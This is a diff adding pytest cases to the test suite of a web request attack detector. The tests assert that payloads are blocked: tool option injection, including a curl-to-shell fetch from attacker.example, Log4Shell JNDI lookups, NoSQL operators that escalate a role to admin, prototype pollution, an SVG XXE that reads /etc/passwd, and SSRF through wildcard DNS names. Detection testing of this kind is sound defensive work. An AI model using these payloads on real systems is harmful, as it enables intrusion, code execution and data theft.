@@ -144,3 +144,168 @@ def test_sqlmap_payloads_are_refused_in_query_and_json(payload: str) -> None:
 def test_look_alikes_of_the_sqlmap_payloads_pass(text: str) -> None:
     assert not search(text).blocked
     assert not json_body({"note": text}).blocked
+
+
+# -- attack classes that used to pass -------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "--upload-pack=touch /tmp/pwned",
+        "origin --receive-pack=id",
+        "-c core.sshCommand=id",
+        "--checkpoint-action=exec=sh shell.sh",
+        "-oProxyCommand=curl attacker.example|sh",
+        "--use-compress-program=sh -c id",
+    ],
+)
+def test_option_injection_into_a_tool_is_refused(payload: str) -> None:
+    verdict = search(payload)
+    assert verdict.blocked
+    assert "cmdi" in verdict.categories
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["--verbose", "--output=json", "use --exec mode in the docs", "-c 4", "git clone --depth=1"],
+)
+def test_ordinary_options_pass(text: str) -> None:
+    assert not search(text).blocked
+
+
+@pytest.mark.parametrize(
+    "header", ["If-None-Match", "Cache-Control", "Accept", "Accept-Encoding", "Range"]
+)
+@pytest.mark.parametrize(
+    "lookup",
+    ["${jndi:ldap://attacker.example/a}", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"],
+)
+def test_log4j_lookups_in_any_standard_header_are_refused(header: str, lookup: str) -> None:
+    verdict = with_header(header, lookup)
+    assert verdict.blocked
+    assert "log4shell" in verdict.categories
+
+
+def test_standard_headers_of_a_browser_pass() -> None:
+    headers = [
+        ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
+        ("Sec-Ch-Ua", '"Chromium";v="118", "Not=A?Brand";v="99"'),
+        ("If-None-Match", 'W/"5e-abc"'),
+        ("Cache-Control", "max-age=0"),
+    ]
+    request = RequestParts.from_target("GET", "/api/v1/accounts", headers)
+    assert not DETECTOR.inspect(request).findings
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        {"filter": {"name": "anne"}, "update": {"$set": {"role": "admin"}}},
+        {"$rename": {"role": "old_role"}},
+        {"$inc": {"balance": 1000000}},
+        {"changes": [{"$push": {"roles": "admin"}}]},
+    ],
+)
+def test_mongodb_update_operators_in_a_body_are_refused(body: object) -> None:
+    verdict = json_body(body)
+    assert verdict.blocked
+    assert "nosql" in verdict.categories
+
+
+@pytest.mark.parametrize(
+    "patch",
+    [
+        [{"op": "add", "path": "/__proto__/admin", "value": True}],
+        [{"op": "replace", "path": "/constructor/prototype/isAdmin", "value": True}],
+        [{"op": "copy", "from": "/a", "path": "/__proto__"}],
+    ],
+)
+def test_prototype_pollution_through_json_patch_paths_is_refused(patch: object) -> None:
+    verdict = json_body(patch)
+    assert verdict.blocked
+    assert "prototype_pollution" in verdict.categories
+
+
+def test_a_mangled_proto_key_is_refused() -> None:
+    verdict = json_body({"__pro__proto__to__": {"admin": True}})
+    assert verdict.blocked
+    assert "prototype_pollution" in verdict.categories
+
+
+def test_ordinary_json_patch_passes() -> None:
+    patch = [{"op": "replace", "path": "/profile/name", "value": "Anne"}]
+    assert not json_body(patch).blocked
+
+
+SVG_XXE = (
+    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
+)
+
+
+def upload(content: bytes, filename: str, part_type: str) -> Verdict:
+    body = (
+        b'--b\r\nContent-Disposition: form-data; name="avatar"; filename="'
+        + filename.encode()
+        + b'"\r\nContent-Type: '
+        + part_type.encode()
+        + b"\r\n\r\n"
+        + content
+        + b"\r\n--b--\r\n"
+    )
+    request = RequestParts.from_target(
+        "POST", "/api/v1/avatar", [("Content-Type", "multipart/form-data; boundary=b")], body
+    )
+    return DETECTOR.inspect(request)
+
+
+@pytest.mark.parametrize(
+    ("filename", "part_type"),
+    [("a.svg", "image/svg+xml"), ("a.png", "image/png"), ("a.bin", "application/octet-stream")],
+)
+def test_xxe_in_an_svg_upload_is_refused_whatever_type_it_claims(
+    filename: str, part_type: str
+) -> None:
+    verdict = upload(SVG_XXE, filename, part_type)
+    assert verdict.blocked
+    assert "xxe-doctype" in verdict.rule_ids
+
+
+def test_an_html_upload_is_not_parsed_as_xml() -> None:
+    html = b"<!DOCTYPE html><html><body><p>Hello</p></body></html>"
+    verdict = upload(html, "page.html", "text/html")
+    assert not {"xxe-doctype", "xxe-malformed"} & set(verdict.rule_ids)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://169.254.169.254.nip.io/latest/meta-data/",
+        "http://127.0.0.1.sslip.io:8080/admin",
+        "http://10-0-0-1.nip.io/",
+        "http://app-192-168-1-10.sslip.io/",
+        "http://7f000001.nip.io/",
+        "http://7f000001.c0a80001.rbndr.us/",
+        "http://app.localtest.me/",
+        "http://lvh.me:8080/",
+    ],
+)
+def test_wildcard_dns_names_of_internal_addresses_are_ssrf(url: str) -> None:
+    verdict = json_body({"webhook": url})
+    assert verdict.blocked
+    assert "ssrf" in verdict.categories
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://1.2.3.4.nip.io/",
+        "https://ec2-54-1-2-3.eu-west-1.compute.amazonaws.com/hook",
+        "https://release-1-2-3.example.com/",
+        "https://deadbeef.example.com/",
+        "https://v10.0.0.1.example.com/",
+    ],
+)
+def test_public_names_with_numbers_are_not_ssrf(url: str) -> None:
+    assert not json_body({"webhook": url}).findings
